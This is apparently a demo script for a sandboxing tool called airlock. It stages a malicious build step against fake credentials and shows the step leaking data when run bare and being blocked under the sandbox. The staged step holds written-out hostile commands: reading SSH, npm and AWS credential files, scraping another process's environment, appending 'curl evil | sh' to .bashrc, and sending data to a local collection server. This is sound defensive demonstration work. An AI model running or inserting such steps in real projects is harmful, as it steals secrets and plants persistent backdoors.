#!/usr/bin/env bash
# The README's first command: builds airlock on a fresh Debian 12 machine and
# shows it stopping a malicious build step. A fake home full of planted
# credentials and a project whose "build" script tries to steal them; run
# once bare (everything leaks) and once under `airlock run` (nothing does,
# the build still succeeds).
set -euo pipefail
cd "$(dirname "$0")/.."
bash packaging/deps.sh
cmake -S . -B build -DCMAKE_BUILD_TYPE=Release >/dev/null
cmake --build build -j"$(nproc)" --target airlock >/dev/null

demo=$(mktemp -d /var/tmp/airlock-demo.XXXXXX)
trap 'rm -rf "$demo"' EXIT
mkdir -p "$demo/home/.ssh" "$demo/home/.aws" "$demo/project"
echo "-----BEGIN OPENSSH PRIVATE KEY----- demo-ssh-key" > "$demo/home/.ssh/id_rsa"
echo "//registry.invalid/:_authToken=demo-npmrc-token" > "$demo/home/.npmrc"
printf '[default]\naws_secret_access_key = demo-aws-secret\n' > "$demo/home/.aws/credentials"
echo 'int main(void) { return 0; }' > "$demo/project/main.c"
cat > "$demo/project/build.sh" <<'SCRIPT'
#!/bin/sh
# A build step with a poisoned dependency: it builds, and it steals.
try() { if out=$(sh -c "$2" 2>&1) && [ -n "$out" ]; then echo "  LEAKED   $1: $(echo "$out" | head -c 60)"; else echo "  blocked  $1: $(echo "${out:-not set}" | tail -n 1 | head -c 70)"; fi; }
try "ssh key"          'cat "$HOME/.ssh/id_rsa"'
try "npm token file"   'cat "$HOME/.npmrc"'
try "aws credentials"  'cat "$HOME/.aws/credentials"'
try "GITHUB_TOKEN env" 'printenv GITHUB_TOKEN'
try "NPM_TOKEN env"    'printenv NPM_TOKEN'
try "deploy job's env" 'tr "\0" "\n" < /proc/$DEMO_VICTIM_PID/environ | grep DEPLOY_KEY'
try "write ~/.bashrc"  'echo "curl evil | sh" >> "$HOME/.bashrc" && echo written'
try "send it out"      'python3 -c "import socket,os; socket.create_connection((\"127.0.0.1\", int(os.environ[\"DEMO_PORT\"])), 2); print(\"connected\")"'
cc -o app main.c && ./app && echo "  build    ok: app compiled and ran"
SCRIPT
chmod +x "$demo/project/build.sh"

# Another job of the same user (a deploy step holding a key), and a
# "collection server" on loopback for the stolen data.
DEPLOY_KEY=demo-deploy-key sleep 600 &
export DEMO_VICTIM_PID=$!
python3 -m http.server --bind 127.0.0.1 0 >"$demo/server.log" 2>&1 &
server=$!
trap 'kill $DEMO_VICTIM_PID $server 2>/dev/null; rm -rf "$demo"' EXIT
for _ in $(seq 50); do grep -q "port" "$demo/server.log" && break; sleep 0.1; done
export DEMO_PORT=$(sed -n 's/.*port \([0-9]*\).*/\1/p' "$demo/server.log" | head -n 1)
export HOME="$demo/home" GITHUB_TOKEN="ghp_$(head -c 18 /dev/urandom | od -An -tx1 | tr -d ' \n')" NPM_TOKEN="npm_demo"
cd "$demo/project"
echo "== The build step run bare:"
bash ./build.sh || true
echo
echo "== The same step under: airlock run -- ./build.sh"
"$OLDPWD/build/airlock" run --keep-env 'DEMO_*' -- ./build.sh

# Part two: the npm supply-chain attack. A project whose lockfile has a real
# registry package and a local one with a poisoned postinstall script.
if command -v npm >/dev/null && command -v node >/dev/null; then
  cd "$OLDPWD"
  npmdemo="$demo/npm"
  mkdir -p "$npmdemo"
  eval "$(bash integration/npm-demo/setup.sh "$npmdemo")"
  trap 'kill $DEMO_VICTIM_PID $server $DEMO_COLLECTOR_PID 2>/dev/null; rm -rf "$demo"' EXIT
  export DEMO_COLLECTOR_PORT
  A="$PWD/build/airlock"
  cd "$DEMO_PROJECT"
  echo
  echo "== npm: the poisoned install script run the usual way (npm ci):"
  HOME="$DEMO_HOME" NPM_TOKEN="$GITHUB_TOKEN" npm ci --no-audit --no-fund --foreground-scripts --loglevel=error 2>&1 | grep -E "LEAKED|blocked"
  echo "   the attacker's server received: $(tr '\n' ' ' < "$DEMO_LOOT" | head -c 90)..."
  rm -rf node_modules
  : > "$DEMO_LOOT"
  echo
  echo "== npm, two phases under airlock:"
  echo "   airlock run --profile npm-ci -- npm ci          (registry only, scripts off, token for npm)"
  HOME="$DEMO_HOME" NPM_TOKEN="$GITHUB_TOKEN" "$A" run --profile npm-ci -- npm ci --no-audit --no-fund --loglevel=error
  echo "   airlock run --profile npm-scripts -- npm rebuild (scripts: no network, no token)"
  HOME="$DEMO_HOME" NPM_TOKEN="$GITHUB_TOKEN" "$A" run --keep-env DEMO_COLLECTOR_PORT --profile npm-scripts -- \
    npm rebuild --foreground-scripts --loglevel=error 2>&1 | grep -E "LEAKED|blocked"
  echo "   the attacker's server received: $(if [[ -s $DEMO_LOOT ]]; then cat "$DEMO_LOOT"; else echo nothing; fi)"
  echo "   installed: $(node -e 'console.log(Object.keys(require("./package.json").dependencies).map(d => d + (require(d) !== undefined ? " ok" : "")).join(", "))')"
  cd "$OLDPWD"
fi

echo
echo "== What the default profile enforces on this machine (airlock doctor):"
"$PWD/build/airlock" doctor | sed -n '/on this machine/,$p'
